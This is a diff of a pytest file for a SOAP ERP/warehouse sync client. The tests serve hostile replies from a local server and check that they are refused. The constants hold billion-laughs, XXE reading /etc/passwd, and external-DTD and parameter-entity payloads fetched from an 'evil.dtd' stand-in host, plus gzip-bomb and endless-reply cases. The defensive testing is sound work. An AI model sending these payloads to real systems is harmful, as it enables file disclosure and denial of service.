@@ -16,20 +16,24 @@ import gzip
 import http.client
 import logging
 import threading
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any, Callable, Iterator
 
 import pytest
 import requests
 from pydantic import SecretStr
+from zeep.exceptions import Fault
 
 from sync_pipeline.erp import ErpClient, ErpConnection
 from sync_pipeline.mapping import map_order
 from sync_pipeline.sandbox.server import MAX_REQUEST_BYTES, SandboxServer
 from sync_pipeline.soap.client import RetryPolicy
 from sync_pipeline.soap.errors import RetryableError, SyncError, TerminalError
-from sync_pipeline.soap.transport import DEFAULT_MAX_REPLY_BYTES
+from sync_pipeline.resources import WmsResource, resources_from_env
+from sync_pipeline.sandbox.demo_stack import sandbox_environment
+from sync_pipeline.settings import SettingsError, load_settings
+from sync_pipeline.soap.transport import DEFAULT_MAX_REPLY_BYTES, MB
 from sync_pipeline.wms import WmsClient, WmsConnection
 
 SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
@@ -45,6 +49,8 @@ LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol
           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
           '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>')
 XXE = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
+NETWORK_DTD = '<!DOCTYPE soap:Envelope SYSTEM "{hostile}/evil.dtd">'  # {hostile}: the address, filled in
+PARAMETER_ENTITY = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "{hostile}/evil.dtd"> %remote;]>'
 
 
 def envelope(body: str, prolog: str = "") -> bytes:
@@ -87,10 +93,12 @@ class Hostile:
         self.reply = Reply()
         self.login = Reply(LOGIN, headers=(("Set-Cookie", f"ASP.NET_SessionId={SESSION}; path=/"),))
         self.requests: list[tuple[str, str, str]] = []  # (method, path, SOAPAction)
+        self.sent = 0  # bytes an endless reply managed to send before the client hung up
         hostile = self
 
         class Handler(BaseHTTPRequestHandler):
             protocol_version = "HTTP/1.1"
+            server_side = hostile
 
             def do_GET(self) -> None:  # noqa: N802 - stdlib name: a parser fetching a DTD would come here
                 hostile.requests.append(("GET", self.path, ""))
@@ -169,15 +177,16 @@ def wms_client(hostile: Hostile) -> WmsClient:
 
 # -- replies that fail cleanly --------------------------------------------------------------------
 
-def endless(handler: Any, chunk: bytes = b" " * 65536, cap: int = 64 * 1024 * 1024) -> None:
-    """A reply that never ends (up to `cap`), without Content-Length: counts what it managed to send."""
+ENDLESS_CAP = 64 * 1024 * 1024
+
+
+def endless(handler: Any, chunk: bytes = b" " * 65536) -> None:
+    """A reply without Content-Length that goes on (up to ENDLESS_CAP) while the client reads."""
     handler.wfile.write(envelope("").split(b"<soap:Body>")[0])
-    server_side = handler.server
-    sent = 0
-    while sent < cap:
+    handler.server_side.sent = 0
+    while handler.server_side.sent < ENDLESS_CAP:
+        handler.server_side.sent += len(chunk)  # counted before the write, which the client may cut short
         handler.wfile.write(chunk)
-        sent += len(chunk)
-        server_side.hostile_sent = sent
 
 
 def gzip_bomb(size: int) -> bytes:
@@ -224,8 +233,8 @@ def hostile_replies(body: Callable[[str], str]) -> list:
         # DTDs and entities: refused before anything is read, never expanded or fetched
         failing("billion-laughs", Reply(envelope(body("&lol4;"), LAUGHS)), TerminalError, "unsafe XML"),
         failing("external-entity-file", Reply(envelope(body("&secret;"), XXE)), TerminalError, "unsafe XML"),
-        failing("external-DTD-over-HTTP", Reply(b""), TerminalError, "unsafe XML"),  # body set per server below
-        failing("parameter-entity", Reply(b""), TerminalError, "unsafe XML"),  # body set per server below
+        failing("external-DTD-over-HTTP", Reply(envelope(body("&secret;"), NETWORK_DTD)), TerminalError, "unsafe XML"),
+        failing("parameter-entity", Reply(envelope(body("&secret;"), PARAMETER_ENTITY)), TerminalError, "unsafe XML"),
         failing("DTD-in-a-fault", Reply(envelope("<soap:Fault><faultcode>soap:Server</faultcode><faultstring>"
                                                  "&lol4;</faultstring></soap:Fault>", LAUGHS), status=500),
                 TerminalError, "unsafe XML"),
@@ -242,14 +251,9 @@ ERP_REPLIES = hostile_replies(lambda text: products(product(text)))
 WMS_REPLIES = hostile_replies(lambda text: statuses(text))
 
 
-def network_prologs(url: str) -> dict[str, str]:
-    return {"external-DTD-over-HTTP": f'<!DOCTYPE soap:Envelope SYSTEM "{url}/evil.dtd">',
-            "parameter-entity": f'<!DOCTYPE x [<!ENTITY % remote SYSTEM "{url}/evil.dtd"> %remote;]>'}
-
-
-def prepared(case: Failing, name: str, hostile: Hostile, body: Callable[[str], str]) -> Reply:
-    prolog = network_prologs(hostile.url).get(name)
-    return Reply(envelope(body("&secret;"), prolog)) if prolog else case.reply
+def addressed(reply: Reply, hostile: Hostile) -> Reply:
+    """The reply with "{hostile}" standing for the hostile server's address (where a DTD would be fetched)."""
+    return replace(reply, body=reply.body.replace(b"{hostile}", hostile.url.encode()))
 
 
 def assert_clean_failure(raised: pytest.ExceptionInfo, case: Failing, operation: str, hostile: Hostile,
@@ -274,20 +278,18 @@ def assert_clean_failure(raised: pytest.ExceptionInfo, case: Failing, operation:
 
 
 @pytest.mark.parametrize("case", ERP_REPLIES)
-def test_erp_reply(case: Failing, request: pytest.FixtureRequest, hostile: Hostile, erp_client: ErpClient,
-                   caplog: pytest.LogCaptureFixture) -> None:
+def test_erp_reply(case: Failing, hostile: Hostile, erp_client: ErpClient, caplog: pytest.LogCaptureFixture) -> None:
     caplog.set_level(logging.DEBUG)
-    hostile.reply = prepared(case, request.node.callspec.id, hostile, lambda text: products(product(text)))
+    hostile.reply = addressed(case.reply, hostile)
     with pytest.raises(SyncError) as raised:
         erp_client.products([1])
     assert_clean_failure(raised, case, "GetProducts", hostile, caplog.text)
 
 
 @pytest.mark.parametrize("case", WMS_REPLIES)
-def test_wms_reply(case: Failing, request: pytest.FixtureRequest, hostile: Hostile, wms_client: WmsClient,
-                   caplog: pytest.LogCaptureFixture) -> None:
+def test_wms_reply(case: Failing, hostile: Hostile, wms_client: WmsClient, caplog: pytest.LogCaptureFixture) -> None:
     caplog.set_level(logging.DEBUG)
-    hostile.reply = prepared(case, request.node.callspec.id, hostile, statuses)
+    hostile.reply = addressed(case.reply, hostile)
     with pytest.raises(SyncError) as raised:
         wms_client.order_statuses()
     assert_clean_failure(raised, case, "GetOrderStatuses", hostile, caplog.text)
@@ -297,8 +299,7 @@ def test_an_endless_reply_is_not_read_to_its_end(hostile: Hostile, wms_client: W
     hostile.reply = Reply(stream=endless)
     with pytest.raises(TerminalError, match="larger than the limit"):
         wms_client.order_statuses()
-    sent = getattr(hostile.server, "hostile_sent", 0)
-    assert 0 < sent < 64 * 1024 * 1024, "the client hung up long before the server's 64 MB were sent"
+    assert 0 < hostile.sent < ENDLESS_CAP, "the client hung up long before the server's 64 MB were sent"
 
 
 def test_a_fault_quoting_the_password_does_not_pass_it_on(hostile: Hostile, wms_client: WmsClient) -> None:
@@ -309,15 +310,32 @@ def test_a_fault_quoting_the_password_does_not_pass_it_on(hostile: Hostile, wms_
         wms_client.order_statuses()
     text = str(raised.value) + str(raised.value.__cause__)
     assert "is not valid for goods owner DEMO" in text and PASSWORD not in text, text
+    assert isinstance(raised.value.__cause__, Fault), "the cause keeps its type, without the password"
 
 
-def test_the_reply_limit_is_configurable_and_generous_by_default(hostile: Hostile, wms_client: WmsClient) -> None:
-    assert WmsConnection(base_url="http://x", goods_owner_code="G", username="u",
-                         password="p").max_reply_bytes == DEFAULT_MAX_REPLY_BYTES >= 200 * 1024 * 1024
+def test_the_reply_limit_comes_from_SYNC_MAX_REPLY_MB(monkeypatch: pytest.MonkeyPatch) -> None:
+    for name, value in sandbox_environment("http://127.0.0.1:9", "http://127.0.0.1:9").items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.delenv("SYNC_MAX_REPLY_MB", raising=False)
+    assert load_settings(None).erp_connection().max_reply_bytes == DEFAULT_MAX_REPLY_BYTES >= 200 * MB
+    monkeypatch.setenv("SYNC_MAX_REPLY_MB", "3")
+    settings = load_settings(None)
+    assert settings.erp_connection().max_reply_bytes == settings.wms_connection().max_reply_bytes == 3 * MB
+    resources = resources_from_env(settings)
+    assert resources["erp"].max_reply_mb == resources["wms"].max_reply_mb == 3
+    wms = WmsResource(base_url="http://127.0.0.1:9/sandbox", goods_owner_code="DEMO", username="demo",
+                      password="p", max_reply_mb=3)
+    assert wms.client().connection.max_reply_bytes == 3 * MB
+    monkeypatch.setenv("SYNC_MAX_REPLY_MB", "0")
+    with pytest.raises(SettingsError, match="SYNC_MAX_REPLY_MB.*megabytes"):
+        load_settings(None)
+
+
+def test_a_reply_just_under_the_limit_is_read(hostile: Hostile, wms_client: WmsClient) -> None:
     padded = envelope(statuses().replace("<OrderStatuses>", "<OrderStatuses>" + " " * (LIMIT - 1000)))
     assert LIMIT - 1000 < len(padded) <= LIMIT
     hostile.reply = Reply(padded)
-    assert [s.OrderStatusId for s in wms_client.order_statuses()] == [200], "a reply just under the limit is read"
+    assert [s.OrderStatusId for s in wms_client.order_statuses()] == [200]
 
 
 # -- replies read safely --------------------------------------------------------------------------
@@ -376,10 +394,8 @@ def bad_requests(valid: Callable[..., bytes]) -> list:
     return [
         pytest.param(valid(prolog=LAUGHS), "DTD is prohibited", id="billion-laughs"),
         pytest.param(valid(prolog=XXE), "DTD is prohibited", id="external-entity-file"),
-        pytest.param(valid(prolog='<!DOCTYPE x [<!ENTITY % remote SYSTEM "{hostile}/evil.dtd"> %remote;]>'),
-                     "DTD is prohibited", id="parameter-entity-over-HTTP"),
-        pytest.param(valid(prolog='<!DOCTYPE soap:Envelope SYSTEM "{hostile}/evil.dtd">'), "DTD is prohibited",
-                     id="external-DTD-over-HTTP"),
+        pytest.param(valid(prolog=PARAMETER_ENTITY), "DTD is prohibited", id="parameter-entity-over-HTTP"),
+        pytest.param(valid(prolog=NETWORK_DTD), "DTD is prohibited", id="external-DTD-over-HTTP"),
         pytest.param(sample[: len(sample) // 2], "unable to read request", id="truncated"),
         pytest.param(b"", "unable to read request", id="empty"),
         pytest.param(b'{"Login": {}}', "unable to read request", id="JSON"),
